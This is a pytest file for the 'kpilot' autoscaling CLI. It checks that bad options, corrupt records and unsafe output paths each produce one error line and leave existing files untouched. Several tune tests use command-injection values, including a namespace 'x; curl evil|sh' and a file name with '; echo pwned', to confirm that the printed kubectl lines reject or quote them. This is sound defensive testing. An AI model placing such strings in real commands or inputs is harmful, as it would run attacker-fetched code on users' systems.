"""Bad input to the CLI: one error line naming the option or file, exit 2, no traceback, and
nothing already written replaced (simulate, tune, evaluate, retune, demo, trace from-prometheus)."""

from __future__ import annotations

import errno
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from fake_prometheus import prometheus  # noqa: F401  (fixture)

from kpilot.evaluate.session import REPO_DEFAULT_POLICY

KPILOT = str(Path(sys.executable).with_name("kpilot"))
TRACE = "synthetic:poisson:duration=300,rate=2"
FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "traces"
T0 = 1_699_999_980.0          # unix seconds, a whole minute
SHOP = {("count", "cart"): [(T0 + 60, 3.0), (T0 + 180, 40.0)], ("sum", "cart"): [(T0 + 60, 0.6), (T0 + 180, 4.0)],
        ("count", "search"): [(T0 + 60, 10.0)], ("sum", "search"): [(T0 + 60, 25.0)]}


def kpilot(*args, timeout=60):
    return subprocess.run([KPILOT, *map(str, args)], capture_output=True, text=True, timeout=timeout)


def one_error(proc, start: str) -> str:
    """The run failed with exit 2 and one stderr line, starting `kpilot: error: START`."""
    lines = proc.stderr.strip().splitlines()
    assert proc.returncode == 2 and len(lines) == 1, proc.stderr
    assert lines[0].startswith(f"kpilot: error: {start}"), lines[0]
    return lines[0]


def main(argv, capsys) -> tuple[int, str]:
    """`kpilot ARGV` in this process (to fail a write on purpose): exit code and stderr."""
    from kpilot.cli import main as cli_main

    try:
        cli_main(list(map(str, argv)))
        code = 0
    except SystemExit as exc:
        code = exc.code
    return code, capsys.readouterr().err


def policy_copy(tmp_path, edit=None) -> Path:
    """The shipped policy, copied; `edit(manifest)` changes its training manifest."""
    out = tmp_path / "pol"
    shutil.copytree(REPO_DEFAULT_POLICY, out)
    if edit is not None:
        doc = json.loads((out / "policy.json").read_text())
        edit(doc["manifest"])
        (out / "policy.json").write_text(json.dumps(doc))
    return out


def counts_file(path: Path) -> Path:
    path.write_text("time,requests,mean_duration_s\n" + "".join(f"{60 * k},{20 + k},0.2\n" for k in range(10)))
    return path


# --- 1. simulate --timeline never replaces an input ---

def _input(tmp_path, name):
    """simulate's options that read `name`, the file the timeline would replace, and what the
    error calls it."""
    if name.startswith("policy"):
        policy = policy_copy(tmp_path)
        return {"policy dir": (("--policy", policy), policy / "policy.json", "is part of the policy being read"),
                "policy dir model": (("--policy", policy), policy / "model.zip", "is part of the policy being read"),
                "policy file": (("--policy", policy / "policy.json"), policy / "policy.json",
                                "is the policy being read")}[name]
    if name == "config":
        config = tmp_path / "sim.yaml"
        config.write_text("pod:\n  cores: 1\n")
        return ("--config", config), config, "is the --config file being read"
    if name == "cold-start table":
        table = tmp_path / "coldstart.csv"
        shutil.copy(FIXTURES / "huawei_coldstart.csv", table)
        return ("--cold-start", table), table, "is the cold-start table being read"
    azure = tmp_path / "az"            # an Azure Functions 2019 trace reads durations.csv beside it
    shutil.copytree(FIXTURES / "azure2019", azure)
    return ("--trace", azure / "invocations.csv"), azure / "durations.csv", "is the trace's durations file being read"


@pytest.mark.parametrize("name", ["policy dir", "policy dir model", "policy file", "config", "cold-start table",
                                  "durations file"])
def test_the_timeline_never_replaces_a_file_the_simulation_reads(tmp_path, name):
    options, target, what = _input(tmp_path, name)
    before = target.read_bytes()
    trace = () if "--trace" in options else ("--trace", TRACE)
    proc = kpilot("simulate", *trace, *options, "--timeline", target, "--json")
    line = one_error(proc, "option --timeline: ")
    assert f"{str(target)!r} {what}" in line and proc.stdout == ""
    assert target.read_bytes() == before, f"{target} was replaced"


def test_a_timeline_in_the_policy_folder_can_be_written_again(tmp_path):
    # Only the artifact's own files are protected: an earlier run's timeline beside them is not.
    policy = policy_copy(tmp_path)
    for _ in range(2):
        proc = kpilot("simulate", "--trace", TRACE, "--policy", policy, "--timeline", policy / "timeline.csv", "--json")
        assert proc.returncode == 0, proc.stderr
    assert (policy / "timeline.csv").read_text().startswith("t,")


# --- 2, 3, 10. trace from-prometheus ---

def export(url, out, *extra):
    return ["trace", "from-prometheus", "--url", url, "--namespace", "shop", "--out", out, "--since", "10m",
            "--end", f"{T0 + 600:.0f}", *extra]


def test_an_out_folder_that_cannot_be_created_is_one_error_line(prometheus, tmp_path, capsys, monkeypatch):
    prom = prometheus(SHOP)
    out = tmp_path / "read-only" / "traces"
    out.parent.mkdir()
    real = Path.mkdir

    def mkdir(self, *args, **kw):      # a read-only folder (the tests may run as root)
        if self == out:
            raise PermissionError(errno.EACCES, "Permission denied", str(self))
        return real(self, *args, **kw)

    monkeypatch.setattr(Path, "mkdir", mkdir)
    code, err = main(export(prom.url, out), capsys)
    assert code == 2 and err.strip().splitlines() == [
        f"kpilot: error: option --out: cannot create {str(out)!r} (Permission denied)"]


def test_one_run_writes_all_of_its_traces_or_none(prometheus, tmp_path, capsys, monkeypatch):
    from kpilot.traces.prometheus_export import ServiceTraffic

    out = tmp_path / "traces"
    earlier = prometheus({(part, name): [(t, 2 * v) for t, v in values] for (part, name), values in SHOP.items()})
    assert main(export(earlier.url, out), capsys) == (0, "")         # an earlier run's files
    prom = prometheus(SHOP)
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    assert set(before) == {"cart.csv", "search.csv", "from-prometheus.json"}
    real = ServiceTraffic.csv

    def csv(self):                     # the disk fills up at the second file
        if self.name == "search":
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(self)

    monkeypatch.setattr(ServiceTraffic, "csv", csv)
    code, err = main(export(prom.url, out), capsys)
    assert code == 2 and err.strip().splitlines() == [
        f"kpilot: error: option --out: cannot write {str(out / 'search.csv')!r} (No space left on device)"]
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before      # cart.csv too; no temp files


def test_a_corrupt_record_in_out_is_refused_not_replaced(prometheus, tmp_path, capsys):
    # from-prometheus used to read a corrupt record as empty and write a new one over it: the
    # earlier runs' entries were lost, and their revision files then read as Services'.
    out = tmp_path / "traces"
    out.mkdir()
    (out / "from-prometheus.json").write_text("{not json")
    code, err = main(export(prometheus(SHOP).url, out), capsys)
    assert code == 2 and len(err.strip().splitlines()) == 1 and "from-prometheus.json" in err
    assert "not valid JSON" in err
    assert sorted(p.name for p in out.iterdir()) == ["from-prometheus.json"]
    assert (out / "from-prometheus.json").read_text() == "{not json"


def test_a_mean_duration_its_reader_would_refuse_is_not_written(prometheus, tmp_path):
    prom = prometheus({("count", "cart"): [(T0 + 60, 2.0)], ("sum", "cart"): [(T0 + 60, 4e300)]})
    out = tmp_path / "traces"
    line = one_error(kpilot(*export(prom.url, out)), "option --url: ")
    assert "cart's requests in the 60 s from" in line and "took 2e+300 s on average: not a duration" in line
    assert not out.exists()


# --- 4. decision and re-tuning intervals ---

@pytest.mark.parametrize("interval", ["1e-300", "0.01"])
def test_an_interval_below_the_autoscalers_tick_is_refused(interval):
    # 1e-300 never ended (t + interval == t); 0.01 took 37 s on a two-minute trace.
    line = one_error(kpilot("simulate", "--trace", TRACE, "--interval", interval, timeout=30), "option --interval: ")
    assert f"must be at least the autoscaler's 2 s tick (kpa.tick_s), got {float(interval):g}" in line


@pytest.mark.parametrize("command", [("simulate",), ("tune", "--replays", "1"), ("evaluate", "--baselines", "kpa")])
def test_a_manifest_interval_below_the_tick_is_refused_naming_the_policy_and_key(tmp_path, command):
    policy = policy_copy(tmp_path, lambda m: m["env"].__setitem__("decision_interval_s", 1e-300))
    line = one_error(kpilot(*command, "--trace", TRACE, "--policy", policy, timeout=30), f"{policy / 'policy.json'}: ")
    assert "manifest env.decision_interval_s must be at least the autoscaler's 2 s tick (kpa.tick_s), got 1e-300" in line


def test_simulate_overrides_a_manifests_interval_and_cold_start_table(tmp_path):
    # What simulate's options override is the user's to replace, not a reason to refuse the policy:
    # an interval an earlier kpilot trained at, a table recorded on the training machine.
    def edit(m):
        m["env"]["decision_interval_s"] = 1
        m["config"]["sim"] = {"pod": {"cold_start": "/data/tables/cold_start_table.csv"}}
    policy = policy_copy(tmp_path, edit)
    proc = kpilot("simulate", "--trace", TRACE, "--policy", policy, "--interval", "30", "--cold-start", "huawei",
                  "--json", timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout)["requests"] > 0
    # Without the options each is named as the manifest's.
    line = one_error(kpilot("simulate", "--trace", TRACE, "--policy", policy, "--cold-start", "huawei", timeout=60),
                     f"{policy / 'policy.json'}: ")
    assert "manifest env.decision_interval_s must be at least the autoscaler's 2 s tick (kpa.tick_s), got 1" in line
    line = one_error(kpilot("simulate", "--trace", TRACE, "--policy", policy, "--interval", "30", timeout=60),
                     f"{policy / 'policy.json'}: ")
    assert "manifest config.sim.pod.cold_start: no cold-start table '/data/tables/cold_start_table.csv'" in line


def test_a_retune_schedule_below_a_minute_is_refused():
    proc = kpilot("evaluate", "--trace", TRACE, "--baselines", "static-rolling", "--retune-every", "0.001s",
                  timeout=30)
    line = one_error(proc, "option --retune-every: ")
    assert "expected at least 60 s (a CronJob runs `kpilot retune` at most once a minute), got 0.001 s" in line


# --- 5. tune's kubectl lines ---

def tune(*traces):
    args = [a for t in traces for a in ("--trace", t)]
    return kpilot("tune", *args, "--replays", "1", "--warmup", "0", "--last", "1", timeout=120)


def test_a_file_name_that_is_no_service_name_gets_a_note_not_a_command(tmp_path):
    bad = counts_file(tmp_path / "My Service; echo pwned.csv")
    good = counts_file(tmp_path / "cart.csv")
    proc = tune(bad, good)
    assert proc.returncode == 0, proc.stderr
    lines = [line for line in proc.stdout.splitlines() if line.startswith(("kubectl", "#"))]
    assert lines[0] == (f"# kpilot: no kubectl line for {str(bad)!r}: Service name 'My Service; echo pwned' is "
                        "not a Kubernetes name (a DNS-1123 label: lowercase letters, digits and '-', at most 63)")
    assert lines[1].startswith("kubectl annotate ksvc cart --overwrite kpilot.dev/base-target=") and len(lines) == 2


def test_a_note_prints_the_name_as_it_is_not_as_markup(tmp_path):
    # Rich read "[bold]" in a file name as a style and dropped it from the note.
    bad = counts_file(tmp_path / "shop[bold]x.csv")
    proc = tune(bad)
    assert proc.returncode == 0, proc.stderr
    assert "Service name 'shop[bold]x' is not a Kubernetes name" in proc.stdout


def test_a_namespace_that_is_no_kubernetes_name_gets_a_note_not_a_command(tmp_path):
    counts_file(tmp_path / "cart.csv")
    (tmp_path / "from-prometheus.json").write_text(json.dumps(
        {"files": {"cart.csv": {"by": "service", "namespace": "x; curl evil|sh"}}}))
    proc = tune(tmp_path / "cart.csv")
    assert proc.returncode == 0, proc.stderr
    assert "curl evil|sh --overwrite" not in proc.stdout and "-n x;" not in proc.stdout
    assert "namespace 'x; curl evil|sh' is not a Kubernetes name" in proc.stdout


def test_a_corrupt_from_prometheus_record_is_one_error_line(tmp_path):
    counts_file(tmp_path / "cart.csv")
    record = tmp_path / "from-prometheus.json"
    record.write_text("{not json")
    line = one_error(tune(tmp_path / "cart.csv"), f"{record}: ")
    assert "not valid JSON" in line
    record.write_text("[" * 100_000 + "]" * 100_000)         # a RecursionError traceback before
    line = one_error(tune(tmp_path / "cart.csv"), f"{record}: ")
    assert "not valid JSON (nested too deeply)" in line


def test_kubectl_lines_are_quoted_for_a_shell():
    from kpilot.evaluate.tune import kubectl_annotate

    assert kubectl_annotate("a b", {"k": "v;w"}, "n s") == "kubectl annotate ksvc 'a b' -n 'n s' --overwrite 'k=v;w'"


# --- 6. a manifest's cold-start model ---

@pytest.mark.parametrize("command", [("simulate", "--trace", TRACE), ("tune", "--trace", TRACE, "--replays", "1")])
def test_a_manifests_bad_cold_start_names_the_policy_file_and_key(tmp_path, command):
    policy = policy_copy(tmp_path, lambda m: m["config"]["sim"].__setitem__("pod", {"cold_start": "bogus"}))
    line = one_error(kpilot(*command, "--policy", policy, timeout=60), f"{policy / 'policy.json'}: ")
    assert "manifest config.sim.pod.cold_start: bad cold-start model 'bogus'" in line and "--cold-start" not in line


def test_retune_with_a_manifests_bad_cold_start_names_the_policy_file(prometheus, tmp_path):
    minutes = [T0 + 60 * k for k in range(1, 16)]        # busy through the warm-up and the window
    prom = prometheus({("count", "cart"): [(t, 30.0) for t in minutes], ("sum", "cart"): [(t, 6.0) for t in minutes]})
    policy = policy_copy(tmp_path, lambda m: m["config"]["sim"].__setitem__("pod", {"cold_start": "bogus"}))
    proc = kpilot("retune", "--url", prom.url, "--namespace", "shop", "--over", "8m", "--end", f"{T0 + 900:.0f}",
                  "--policy", policy, "--replays", "1")
    line = one_error(proc, f"{policy / 'policy.json'}: ")
    assert "config.sim.pod.cold_start" in line and "--cold-start" not in line


# --- 7. retune --step ---

@pytest.mark.parametrize("step", ["nan", "inf"])
def test_retune_names_step_for_a_step_that_is_no_number(step):
    proc = kpilot("retune", "--url", "http://127.0.0.1:9", "--namespace", "shop", "--step", step)
    one_error(proc, f"option --step: must be a whole number of seconds >= 1, got {step}")


# --- 8. a group without a command ---

@pytest.mark.parametrize("group", [(), ("trace",), ("operator",)])
def test_a_group_without_a_command_prints_its_help_and_no_error(group):
    proc = kpilot(*group)
    assert proc.returncode == 2 and "Usage: kpilot" in proc.stdout      # Click's code for no_args_is_help
    assert proc.stderr == ""


# --- 9. demo ---

def test_demo_refuses_out_without_train(tmp_path):
    line = one_error(kpilot("demo", "--out", tmp_path / "pol"), "option --out: ")
    assert "only with --train" in line and not (tmp_path / "pol").exists()


@pytest.mark.parametrize("option, value, names", [
    ("--band", "2", "rl-in-band or rl-or-tuned"),
    ("--tune-bin", "60", "static-tuned, rl-in-band or rl-or-tuned"),
    ("--retune-every", "10m", "static-rolling"),
    ("--retune-over", "1h", "static-rolling"),
    ("--retune-bin", "15", "static-rolling"),
])
def test_an_option_for_a_baseline_not_asked_for_is_refused_not_ignored(option, value, names):
    # Each exited 0 having changed nothing, as --warmup without --window once did.
    line = one_error(kpilot("evaluate", "--trace", TRACE, "--baselines", "kpa,static:1", option, value),
                     f"option {option}: ")
    assert line.endswith(f"applies only to {names}, which --baselines does not ask for")


@pytest.mark.parametrize("option", ["--retune-every", "--retune-over"])
def test_an_empty_duration_is_refused_not_taken_for_the_default(option):
    # An unset shell variable ($EVERY) ran with the default, silently.
    line = one_error(kpilot("evaluate", "--trace", TRACE, "--baselines", "static-rolling", f"{option}="),
                     f"option {option}: ")
    assert line.endswith("got ''")


@pytest.mark.parametrize("lag, expected", [("-1", "expected seconds >= 0, got -1.0"),
                                           ("nan", "expected seconds >= 0, got nan"),
                                           ("30", "expected less than the decision interval (30 s), got 30"),
                                           ("45", "expected less than the decision interval (30 s), got 45")])
def test_an_observation_lag_outside_the_decision_interval_is_one_error_line(lag, expected):
    proc = kpilot("evaluate", "--trace", TRACE, "--policy", REPO_DEFAULT_POLICY, "--baselines", "kpa",
                  "--observation-lag", lag)
    assert one_error(proc, "option --observation-lag: ").endswith(expected)


def test_an_observation_lag_with_the_pod_autoscaler_source_is_refused():
    # The PodAutoscaler's status is read from the API server as it is: no scrape to be late.
    for command in (("evaluate", "--policy", REPO_DEFAULT_POLICY, "--baselines", "kpa"), ("tune", "--replays", "1")):
        proc = kpilot(*command, "--trace", TRACE, "--metrics", "kubernetes", "--observation-lag", "10")
        assert "with --metrics kubernetes the policy reads the PodAutoscaler's status as it is" in \
            one_error(proc, "option --observation-lag: applies to readings from Prometheus's scrapes")


def test_an_observation_lag_without_a_controller_that_reads_is_refused():
    proc = kpilot("evaluate", "--trace", TRACE, "--baselines", "kpa,static-grid", "--observation-lag", "10")
    assert "applies only to --policy and the rule baseline" in one_error(proc, "option --observation-lag: ")
